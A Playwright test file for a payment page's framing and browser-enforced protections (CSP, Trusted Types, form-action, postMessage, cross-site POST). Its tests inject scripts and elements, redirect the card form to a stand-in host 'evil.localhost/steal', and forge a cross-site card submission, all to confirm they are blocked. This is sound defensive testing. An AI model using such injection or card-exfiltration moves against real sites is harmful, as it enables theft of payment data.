/**
 * The page in and out of frames, and what the browser itself enforces for it: the full page is
 * never framed, the simple one pays inside the merchant's page, nothing foreign runs, and a post
 * from elsewhere is refused.
 */

import assert from "node:assert/strict";
import { after, describe, test } from "node:test";
import type { Page } from "playwright-core";
import { axeViolations, complaintsAbout, DESKTOP } from "../../testkit/browser.ts";
import { CARD, openShop, pay, unfold, WAYS } from "../../testkit/shop.ts";
import { until } from "../../testkit/until.ts";

const shop = await openShop();
after(() => shop.close());

const framing = (url: string) => `${shop.url}/frame?page=${encodeURIComponent(url)}`;

for (const [way, options] of WAYS) {
  const hasScripts = options.javaScriptEnabled !== false;

  describe(`in a frame of the shop, ${way}`, () => {
    test("the simple page pays, and the result opens inside the frame", async () => {
      const { url, transactionId } = await shop.order({ method: "3co_simple" });
      const page = await shop.browser.page(options);
      await page.goto(framing(url));
      const frame = page.frameLocator("iframe");
      await pay(frame, { number: CARD.approved });
      await frame.locator("#status").waitFor();
      assert.equal(await frame.locator("#status").innerText(), "success");
      assert.equal(await shop.statusOf(transactionId), "success");
      assert(page.url().startsWith(`${shop.url}/frame`), "the shop's own page has stayed");
      await page.context().close();
    });

    test("the bank asks inside the frame, too", async () => {
      const { url, transactionId } = await shop.order({ method: "3co_simple" });
      const page = await shop.browser.page(options);
      await page.goto(framing(url));
      const frame = page.frameLocator("iframe");
      await pay(frame, { number: CARD.challenged });
      if (hasScripts) {
        const bank = frame.frameLocator("#bank");
        await bank.getByRole("button", { name: "Confirm the payment" }).click();
      } else {
        await frame.getByRole("link", { name: "Open your bank's page" }).click();
        await frame.getByRole("button", { name: "Continue to your bank" }).click();
        await frame.getByRole("button", { name: "Confirm the payment" }).click();
        await frame.getByRole("button", { name: "Back to the payment page" }).click();
        await frame.getByRole("link", { name: "Continue" }).click();
      }
      await frame.locator("#status").waitFor();
      assert.equal(await frame.locator("#status").innerText(), "success");
      assert.deepEqual(await shop.sales(transactionId), [{ outcome: "approved" }]);
      await page.context().close();
    });
  });
}

test("the full page is not shown in anybody's frame", async () => {
  const { url } = await shop.order();
  const page = await shop.browser.page(DESKTOP);
  await page.goto(framing(url));
  await until(() => page.frames().length === 2, "the frame is there");
  assert.equal(await page.frameLocator("iframe").locator("#card").count(), 0);
  await page.context().close();
});

describe("the browser guards the page", () => {
  const open = async (fields?: Record<string, string>) => {
    const { url } = await shop.order(fields);
    const page = await shop.browser.page(DESKTOP);
    const complaints = complaintsAbout(page);
    await page.goto(url);
    return { page, url, complaints };
  };

  /** Code of a test in the page, past the page's own policy. */
  const run = (page: Page, code: string) => page.evaluate(code);

  test("it breaks none of its own rules", async () => {
    for (const fields of [{}, { method: "3co_simple" }, { avs: "1" }]) {
      const { page, complaints } = await open(fields);
      await unfold(page.locator("#country"));
      await page.locator("#country").selectOption("CA");
      await page.locator("#number").fill("4111 1111 1111 1111");
      assert.deepEqual(complaints, []);
      assert.deepEqual(await axeViolations(page), []);
      await page.context().close();
    }
  });

  test("injected scripts, styles, frames and bases do nothing, and the browser complains", async () => {
    const { page, complaints } = await open();
    await run(
      page,
      `(() => {
        const add = (name, attributes) => {
          const element = document.createElement(name);
          for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
          document.body.append(element);
        };
        const attempts = [
          () => add("script", { src: "${shop.url}/evil.js" }),
          () => add("link", { rel: "stylesheet", href: "${shop.url}/evil.css" }),
          () => add("base", { href: "${shop.url}/" }),
          () => add("img", { src: "${shop.url}/pixel" }),
          () => add("iframe", { src: "${shop.url}/frame" }),
          () => add("p", { style: "background: url(${shop.url}/pixel)" }),
          () => add("p", { onclick: "alert(1)" }),
          () => { document.body.innerHTML = "<b>x</b>"; },
        ];
        for (const attempt of attempts) {
          try { attempt(); } catch (error) { console.error(String(error)); }
        }
      })()`,
    );
    const rules = [
      "TrustedScriptURL",
      "TrustedHTML",
      "style-src",
      "base-uri",
      "img-src",
      "frame-src",
    ];
    await until(
      () => rules.every((rule) => complaints.some((line) => line.includes(rule))),
      `the browser complains: ${complaints.join("\n")}`,
    );
    assert.equal(
      shop.results.some(({ pathname }) => /evil|pixel/.test(pathname)),
      false,
    );
    await page.context().close();
  });

  test("a form that leads elsewhere is not sent", async () => {
    const { page, complaints } = await open();
    await run(
      page,
      `(() => {
        const form = document.querySelector("#card");
        form.action = "http://evil.localhost:9/steal";
        form.submit();
      })()`,
    );
    await until(() => complaints.some((line) => line.includes("form-action")), "it is refused");
    await page.context().close();
  });

  test("a message of another window moves nothing", async () => {
    const { url, transactionId } = await shop.order();
    const page = await shop.browser.page(DESKTOP);
    await page.goto(url);
    await pay(page, { number: CARD.challenged });
    await page.locator("#bank").waitFor();
    for (const message of [`"approved"`, `{ status: "success" }`, `"x".repeat(5_000_000)`])
      await run(page, `window.postMessage(${message}, "*")`);
    await page.frameLocator("#bank").getByRole("button", { name: "Decline the payment" }).click();
    await page.locator("#notice").waitFor();
    assert.equal(await shop.statusOf(transactionId), "incomplete");
    await page.context().close();
  });

  test("a form of another site that names the page is refused, and nothing is tried", async () => {
    const { url, transactionId } = await shop.order();
    const page = await shop.browser.page(DESKTOP);
    await page.goto(`${shop.url}/frame?page=about:blank`);
    const sent = page.waitForResponse((answer) => answer.url() === url);
    await run(
      page,
      `(() => {
        const form = document.createElement("form");
        form.method = "post";
        form.action = "${url}";
        for (const [name, value] of Object.entries({ number: "${CARD.approved}", expiry: "09/35",
          cvv: "123", holder: "Eve", attempts: "0", form_token: "x" })) {
          const field = document.createElement("input");
          Object.assign(field, { name, value });
          form.append(field);
        }
        document.body.append(form);
        form.submit();
      })()`,
    );
    assert.equal((await sent).status(), 403);
    assert.deepEqual(await shop.sales(transactionId), []);
    await page.context().close();
  });
});
